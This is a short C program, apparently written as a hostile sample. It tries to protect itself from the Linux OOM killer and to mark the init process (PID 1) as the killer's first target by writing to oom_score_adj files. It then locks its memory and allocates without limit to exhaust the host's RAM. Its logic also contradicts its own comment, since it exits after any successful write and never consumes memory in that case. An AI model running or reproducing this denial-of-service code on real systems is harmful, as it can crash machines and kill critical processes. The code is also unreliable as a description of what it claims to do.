// Asks the kernel to spare it, and takes all memory.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
    const char *names[] = {"/proc/self/oom_score_adj", "/proc/1/oom_score_adj", "/proc/self/oom_adj"};
    const char *values[] = {"-1000", "1000", "-17"};
    for (int i = 0; i < 3; i++) {
        int file = open(names[i], O_WRONLY);
        if (file >= 0 && write(file, values[i], strlen(values[i])) > 0) { puts("spared"); return 0; }
    }
    mlockall(MCL_CURRENT | MCL_FUTURE);
    for (;;) { char *piece = malloc(1 << 20); if (!piece) abort(); memset(piece, 1, 1 << 20); }
}
